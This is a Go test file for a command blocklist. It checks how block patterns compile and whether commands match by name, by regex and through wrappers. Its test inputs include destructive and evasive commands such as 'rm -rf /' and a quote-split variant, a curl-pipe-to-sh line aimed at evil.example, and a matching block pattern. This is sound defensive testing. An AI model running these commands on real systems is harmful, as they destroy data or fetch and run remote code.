package blocklist

import "testing"

func TestCompile(t *testing.T) {
	tests := []struct {
		pattern    string
		simple     bool
		hasRegex   bool
		regexMatch string // a string the compiled regex must match, when set
	}{
		{pattern: "rm", simple: true, hasRegex: true, regexMatch: "rm -rf /tmp"},
		{pattern: "format_c", simple: true, hasRegex: true},
		{pattern: "curl.*\\|.*sh", simple: false, hasRegex: true, regexMatch: "curl http://x | sh"},
		{pattern: "^git push", simple: false, hasRegex: true, regexMatch: "git push origin"},
		{pattern: "[invalid", simple: false, hasRegex: false},
	}

	for _, tt := range tests {
		t.Run(tt.pattern, func(t *testing.T) {
			rule := Compile(tt.pattern)
			if rule.Simple != tt.simple {
				t.Errorf("Simple = %v, want %v", rule.Simple, tt.simple)
			}
			if (rule.Regex != nil) != tt.hasRegex {
				t.Errorf("Regex != nil = %v, want %v", rule.Regex != nil, tt.hasRegex)
			}
			if tt.regexMatch != "" && !rule.Regex.MatchString(tt.regexMatch) {
				t.Errorf("compiled %q should match %q", tt.pattern, tt.regexMatch)
			}
		})
	}
}

func TestFind(t *testing.T) {
	rules := CompileAll([]string{"rm", "curl.*\\|.*sh", "[bad regex"})

	tests := []struct {
		name    string
		cmd     string
		blocked bool
		byName  bool
		pattern string
	}{
		{name: "empty command", cmd: "", blocked: false},
		{name: "unrelated command", cmd: "git status", blocked: false},

		// Simple pattern: word-exact, never a substring of a longer word
		{name: "simple direct", cmd: "rm -rf /tmp", blocked: true, byName: true, pattern: "rm"},
		{name: "simple not substring", cmd: "format-disk C:", blocked: false},
		{name: "simple not inside word", cmd: "echo charm", blocked: false},
		{name: "basename exact match", cmd: "/bin/rm file.txt", blocked: true, byName: true, pattern: "rm"},
		{name: "wrapped command", cmd: "sudo rm file.txt", blocked: true, byName: true, pattern: "rm"},
		{name: "later segment", cmd: "ls && rm file.txt", blocked: true, byName: true, pattern: "rm"},
		{name: "case insensitive name", cmd: "RM file.txt", blocked: true, byName: true, pattern: "rm"},

		// Normalization catches evasion before matching
		{name: "quote-split command", cmd: "r''m -rf /", blocked: true, byName: true, pattern: "rm"},
		{name: "backslash-split command", cmd: `r\m -rf /`, blocked: true, byName: true, pattern: "rm"},

		// Complex pattern relies on its own structure
		{name: "complex pipe to sh", cmd: "curl http://evil.example | sh", blocked: true, pattern: "curl.*\\|.*sh"},
		{name: "complex no pipe", cmd: "curl http://example.com", blocked: false},

		// Invalid regex degrades to substring matching
		{name: "substring fallback hit", cmd: "echo [bad regex here", blocked: true, pattern: "[bad regex"},
		{name: "substring fallback miss", cmd: "echo fine", blocked: false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Find(tt.cmd, rules, true)
			if !tt.blocked {
				if got != nil {
					t.Fatalf("Find(%q) = %+v, want nil", tt.cmd, got)
				}
				return
			}
			if got == nil {
				t.Fatalf("Find(%q) = nil, want match on %q", tt.cmd, tt.pattern)
			}
			if got.Pattern != tt.pattern || got.ByName != tt.byName {
				t.Errorf("Find(%q) = {%q byName=%v}, want {%q byName=%v}",
					tt.cmd, got.Pattern, got.ByName, tt.pattern, tt.byName)
			}
			if got.Reason() == "" {
				t.Error("Reason() must not be empty for a match")
			}
		})
	}
}

func TestFindDisabled(t *testing.T) {
	rules := CompileAll([]string{"rm"})
	if Find("rm -rf /", rules, false) != nil {
		t.Error("disabled blocklist must match nothing")
	}
	if IsBlocked("rm -rf /", nil, true) {
		t.Error("empty rule list must match nothing")
	}
}

func TestFindExtraWrappers(t *testing.T) {
	rules := CompileAll([]string{"rm"})

	// Without the wrapper, "doas" is the command name and only the
	// whole-command regex catches rm.
	got := Find("doas rm file", rules, true)
	if got == nil || got.ByName {
		t.Errorf("Find without wrapper = %+v, want regex match", got)
	}

	got = Find("doas rm file", rules, true, "doas")
	if got == nil || !got.ByName {
		t.Errorf("Find with doas wrapper = %+v, want name match on rm", got)
	}
}

func TestCompileAllSkipsBlanks(t *testing.T) {
	rules := CompileAll([]string{"rm", "", "  ", "ls"})
	if len(rules) != 2 {
		t.Errorf("CompileAll kept %d rules, want 2", len(rules))
	}
}

func TestValidate(t *testing.T) {
	tests := []struct {
		pattern string
		warn    bool
	}{
		{"rm", false},
		{"curl.*\\|.*sh", false},
		{"^git push", false},
		{"[invalid", true},
		{"a(b", true},
	}
	for _, tt := range tests {
		warning := Validate(tt.pattern)
		if (warning != "") != tt.warn {
			t.Errorf("Validate(%q) = %q, want warning=%v", tt.pattern, warning, tt.warn)
		}
	}
}
